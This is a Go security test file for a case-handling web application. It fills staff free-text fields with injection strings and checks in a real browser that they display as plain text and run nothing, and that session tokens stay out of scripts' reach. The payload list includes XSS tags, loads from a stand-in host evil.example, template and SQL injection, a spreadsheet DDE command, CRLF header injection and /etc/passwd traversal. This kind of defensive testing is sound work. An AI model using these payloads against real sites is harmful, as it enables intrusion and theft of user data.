package attack

import (
	"net/url"
	"strings"
	"testing"

	"lianou/channels/browsertest"
	"lianou/cmd/internal/visitor"
)

// more are texts in the manner of the Big List of Naughty Strings: what breaks out of
// other places than markup, and what makes a text look like another.
var more = []string{
	`<script>alert(1)</script>`, `"onmouseover="window.ran=1`, "`;window.ran=1;`", `</p><script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)//`,
	`<a href="data:text/html,<script>window.ran=1</script>">x</a>`, `<object data="javascript:window.ran=1">`, `<embed src="javascript:window.ran=1">`,
	`<button form=accept formaction=//evil.example>x</button>`, `<input form=accept name=item value=MZ-01 checked>`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<template><script>window.ran=1</script></template>`, `<noscript><p title="</noscript><img src=x onerror=window.ran=1>">`, `<!--<img src="--><img src=x onerror=window.ran=1>">`,
	`{{printf "%s" .}}{{end}}`, `<%= 7*7 %>#{7*7}${{7*7}}`, `=HYPERLINK("http://evil.example","x")`, `+1+cmd|' /C calc'!A0`, "\u202etxt.exe\u202c", "\u2066\u2069\u200b\u200f", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
	`%3Cscript%3Ewindow.ran=1%3C/script%3E`, `\u003cscript\u003ewindow.ran=1\u003c/script\u003e`, "line\r\nSet-Cookie: a=b", `../../../etc/passwd`, `' or 1=1; --`,
}

// pieces gives the texts in as many joined pieces as fields of that length need.
func pieces(texts []string, length int) []string {
	var out []string
	now := ""
	for _, text := range texts {
		if now != "" && len([]rune(now))+len([]rune(text)) > length {
			out, now = append(out, now), ""
		}
		now += text + " "
	}
	return append(out, now)
}

// P27, from the other side: what the staff writes about a case is shown to others of
// the staff and to the citizen, and cannot attack either. Every free text of the case's
// acts is one of the list; then the case, the letter and the citizen's pages are opened
// in a real browser, which must complain of nothing and show the texts as they are.
// Control: template.HTML around a visit's statement.
func TestNothingTheStaffWritesRuns(t *testing.T) {
	who := made(38).known(t)
	token := who.app(t)
	texts := pieces(append(append([]string{}, payloads...), more...), 300)
	next := func() string { texts = append(texts[1:], texts[0]); return texts[0] }
	form := who.form(t, "app", token)
	form["story"] = strings.Join(more, "\n")
	receipt := accepted(t, "app", token, form)
	at := "/desk/township/case/" + itoa(opened(t, receipt))
	officer, approver := sits(t, "wangmiao.officer"), sits(t, "wangmiao.approver")
	until(t, "the case's place", func() bool {
		page, err := officer.Open(t.Context(), at)
		if err != nil {
			return false
		}
		form, err := page.Form("/accept")
		return err == nil && form.Values.Has("second")
	})
	does(t, officer, at, "/ask_supplement", url.Values{"reason": {next()}, "how": {next()}})
	does(t, officer, at, "/resume", url.Values{"reason": {next()}})
	does(t, officer, at, "/accept", url.Values{"item": {"MZ-01"}, "agreed": {"phone"}, "left": {"问过家里,别的先不报"}})
	does(t, officer, at, "/record_visit", url.Values{"statement": {next() + next()}, "present": {`<img src=x onerror="window.ran=1">`}, "place": {"116.3,37.4"},
		"sign.first": {scrawl(1)}, "sign.second": {scrawl(2)}, "sign.household": {scrawl(3)}})
	seconds(t, at)
	does(t, officer, at, "/propose", url.Values{"outcome": {"refuse"}, "reason": {next()}})
	does(t, approver, at, "/send_back", url.Values{"reason": {next()}})
	does(t, officer, at, "/propose", url.Values{"outcome": {"refuse"}, "reason": {next()}})
	does(t, approver, at, "/decide", url.Values{"reason": {next()}})
	page, err := approver.Open(t.Context(), at)
	if err != nil {
		t.Fatal(err)
	}
	letter := ""
	for _, link := range page.Links() {
		if strings.Contains(link, "/decision/") {
			letter = link
		}
	}
	b := browsertest.Start(t)
	reader := desk(t, b, "wangmiao.approver")
	for _, path := range []string{at, letter, "/desk/township?q=" + receipt, "/desk/township?q=" + url.QueryEscape(more[0])} {
		harmless(t, reader, city.Platform+path)
	}
	reader.Open(city.Platform + at)
	for _, text := range []string{`<script>alert(1)</script>`, `<img src=x onerror="window.ran=1">`, `{{printf "%s" .}}{{end}}`} {
		if !reader.Has(text) {
			t.Errorf("the case does not show %q as it was written", text)
		}
	}
	// A telephone asks for one code a minute.
	if err := city.Advance("2m"); err != nil {
		t.Fatal(err)
	}
	citizen := b.Tab(t)
	citizen.Open(city.Gateway + "/c/app/enter")
	signIn(t, citizen, who)
	for _, path := range []string{"/c/app/mine", "/c/app/mine/" + receipt, "/c/app/news", "/c/app/receipt/" + receipt} {
		harmless(t, citizen, city.Gateway+path)
	}
	kept(t, citizen, who)
}

// does sends the form of an act, filled with a change.
func does(t *testing.T, v *visitor.Visitor, at, act string, change url.Values) {
	t.Helper()
	page, err := v.Open(t.Context(), at)
	if err != nil {
		t.Fatal(err)
	}
	form, err := page.Form(act)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := v.Send(t.Context(), form, change); err != nil {
		t.Fatalf("%s: %v", act, err)
	}
}

// seconds lets the other visitor, whichever of the two assistants went along, confirm
// what the officer wrote down.
func seconds(t *testing.T, at string) {
	t.Helper()
	for _, login := range []string{"wangmiao.assistant1", "wangmiao.assistant2"} {
		page, err := sits(t, login).Open(t.Context(), at)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := page.Form("/confirm_visit"); err == nil {
			does(t, sits(t, login), at, "/confirm_visit", nil)
			return
		}
	}
	t.Fatalf("nobody may confirm the visit of %s", at)
}

// harmless opens a page and holds that nothing ran and the browser complains of
// nothing: neither of a script that was forbidden nor of a file that is elsewhere.
func harmless(t *testing.T, tab *browsertest.Tab, address string) {
	t.Helper()
	tab.Open(address)
	if bad := tab.Eval(intact); bad != "" {
		t.Errorf("%s: %s", address, bad)
	}
	tab.Quiet()
}

// signIn logs a citizen in at the app's page by the code of a text message.
func signIn(t *testing.T, tab *browsertest.Tab, who person) {
	t.Helper()
	tab.Fill("input[name=phone]", who.phone)
	tab.Go("main form button")
	box := send(t, "GET", city.Standin+"/phone/"+who.key+"/inbox", nil)
	tab.Fill("input[name=code]", string(sixDigits.Find(box.body)))
	tab.Go("main form button")
}

// P23 in the browser: a citizen's session leaves nothing of the person in what the
// browser keeps, in its addresses or in scripts' reach.
func kept(t *testing.T, tab *browsertest.Tab, who person) {
	t.Helper()
	const all = `JSON.stringify([location.href, document.referrer, document.cookie, Object.entries(localStorage), Object.entries(sessionStorage),
		performance.getEntriesByType("resource").map(e => e.name), history.state])`
	store := tab.Eval(all)
	unmasked(t, "what the browser keeps", store, who)
	for _, secret := range []string{"lianou_token", "lianou_refresh", "eyJ"} {
		if strings.Contains(store, secret) {
			t.Errorf("scripts reach the session (%s): %s", secret, store)
		}
	}
	if n := tab.Eval(`String(localStorage.length + sessionStorage.length)`); n != "0" {
		t.Errorf("the app keeps %s things in the browser", n)
	}
}
